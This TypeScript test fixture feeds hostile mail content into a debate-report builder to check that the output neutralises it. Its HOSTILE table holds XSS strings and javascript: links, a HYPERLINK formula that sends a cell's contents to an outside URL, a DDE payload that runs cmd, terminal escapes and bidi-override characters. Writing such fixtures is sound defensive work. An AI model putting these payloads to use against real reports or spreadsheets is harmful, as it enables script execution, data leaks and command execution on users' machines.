import type { Debate, Message, Name } from "../../analysis/types.ts";
import { debateOf, evidenceIn, type Mail, messagesOf, stanceIn } from "./debate-builder.ts";

/** What a hostile mail may hold: each must be seen in a report, and do nothing. */
export const HOSTILE = {
  script: "<script>alert(1)</script>",
  image: '<img src=x onerror="alert(1)">',
  markdownLink: "[click](javascript:alert(1))",
  closeLink: "](javascript:alert(1))",
  tableBreak: "a|b`|`c",
  formula: '=HYPERLINK("http://example.org/?"&A1)',
  plus: "+1+cmd|' /C calc'!A0",
  escape: "\u001B[31mred\u001B[0m\u0007",
  override: "abc\u202Edcba\u202C",
  invisible: "zero\u200Bwidth",
  halfPair: "half \uD83D pair",
  endStyle: "</style></title></textarea>",
  yaml: "--- \n# not a heading: [x]",
  argdown: "[Claim]: <Argument> #tag @[x](y) // comment",
  long: `long_${"x".repeat(5000)}`,
  entity: "&lt;b&gt; &amp;amp;",
  rightToLeft: "נר (אור)",
} as const;

const coverage: Debate["coverage"] = {
  messages: 3,
  messagesWithFindings: 3,
  missingMessages: ["gone/<b>@example.org"],
  quotedLines: 0,
  quotedLinesWithoutSource: 0,
  problems: [
    { messageId: HOSTILE.image, detail: HOSTILE.escape },
    { messageId: HOSTILE.rightToLeft, detail: HOSTILE.rightToLeft },
  ],
  merges: [
    {
      person: HOSTILE.script,
      addresses: [HOSTILE.script, HOSTILE.rightToLeft],
      kind: "mailmap",
      messageId: null,
      mailmapLine: `${HOSTILE.rightToLeft}:1`,
      quote: HOSTILE.closeLink,
    },
  ],
  sameNames: [{ name: HOSTILE.script, people: [HOSTILE.image, HOSTILE.rightToLeft] }],
  uncredited: [{ address: HOSTILE.image, kind: "robot", sign: HOSTILE.rightToLeft, messages: 1 }],
};

export const hostileMessages: ReadonlyMap<string, Message> = messagesOf(mails());
export const hostileDebate: Debate = debate(hostileMessages);

function mails(): Mail[] {
  const mallory = { from: "mallory@example.org", name: `Mallory "${HOSTILE.script}" \u202Egro ${HOSTILE.rightToLeft}` };
  const quiet = { from: "=cmd@example.org", name: HOSTILE.formula };
  const lines = Object.values(HOSTILE).map((text) => `I dislike ${text} for that.`);
  return [
    {
      ...mallory,
      id: 'a/b+c%d"><script>@example.org',
      date: "2030-01-01T00:00:00Z",
      subject: HOSTILE.image,
      body: `How about these: ${Object.values(HOSTILE).join(" or ")}\n`,
    },
    {
      ...quiet,
      id: "`x`|[y](z)@example.org",
      date: "2030-01-02T00:00:00Z",
      subject: HOSTILE.rightToLeft,
      body: `${lines.join("\n\n")}\n`,
    },
    {
      from: "",
      id: "nobody@example.org",
      date: null,
      body: `${HOSTILE.closeLink} is fine.\n${"y ".repeat(500_000)}\n`,
    },
  ];
}

function debate(messages: ReadonlyMap<string, Message>): Debate {
  const [first = "", second = "", third = ""] = messages.keys();
  const strings = Object.values(HOSTILE).map((text) => text.replace(/\s+/g, " "));
  const body = messages.get(first)?.body.trimEnd().replace(/\s+/g, " ") ?? "";
  const names: Name[] = strings.map((name, index) => ({
    name,
    aliases: [`${name}2`],
    role: "proposed",
    proposal: evidenceIn(messages, first, index % 2 === 0 ? body : name, `rule-${index}`, 0.3),
    firstUse: null,
    fate: "open",
  }));
  const stances = strings.map((name) =>
    stanceIn(messages, { name, stance: "oppose", in: second, quote: `I dislike ${name} for that.` }, [["other", name]]),
  );
  return debateOf(messages, {
    id: "hostile",
    about: Object.values(HOSTILE).join(" "),
    subject: `${HOSTILE.image} ${HOSTILE.rightToLeft}`,
    names,
    stances: [
      ...stances,
      stanceIn(messages, {
        name: HOSTILE.closeLink,
        stance: "support",
        in: third,
        quote: `${HOSTILE.closeLink} is fine.`,
      }),
    ],
    corrections: Object.values(HOSTILE).map((text) => ({
      action: "reject",
      what: `the objection to "${text}"`,
      reason: text,
      by: text,
      evidence: stances[0]?.evidence ?? null,
    })),
    notes: notesOn(stances, second),
    decision: { status: "undecided", reason: `It trails off ${HOSTILE.script}` },
    coverage,
  });
}

function notesOn(stances: Debate["stances"], objection: string): Debate["notes"] {
  return {
    resolutions: stances.map(({ name, evidence }, at) => ({
      name,
      kind: at % 2 === 0 ? "compromise" : "change of scope",
      objection: at % 2 === 0 ? null : evidence.messageId,
      evidence,
    })),
    relays: stances.map(({ name, evidence }) => ({
      name,
      passedOnIn: evidence.messageId,
      person: evidence.person,
      evidence,
    })),
    quotedSpeech: stances.map(({ name, stance, evidence }) => ({
      name,
      stance,
      messageId: evidence.messageId,
      speaker: name,
      evidence,
    })),
    withdrawals: stances.map(({ name, evidence }) => ({ name, evidence })),
    things: stances.map(({ name, evidence }, at) => ({
      name,
      thing: at % 2 === 0 ? "flag" : "system call",
      evidence,
    })),
    objectionReplies: stances.map(({ name, evidence }) => ({
      name,
      objection,
      kind: "conceded",
      evidence,
    })),
    roles: stances.map(({ evidence }) => ({ person: evidence.person, role: "maintainer", evidence })),
    offList: stances.map(({ evidence }) => evidence),
  };
}
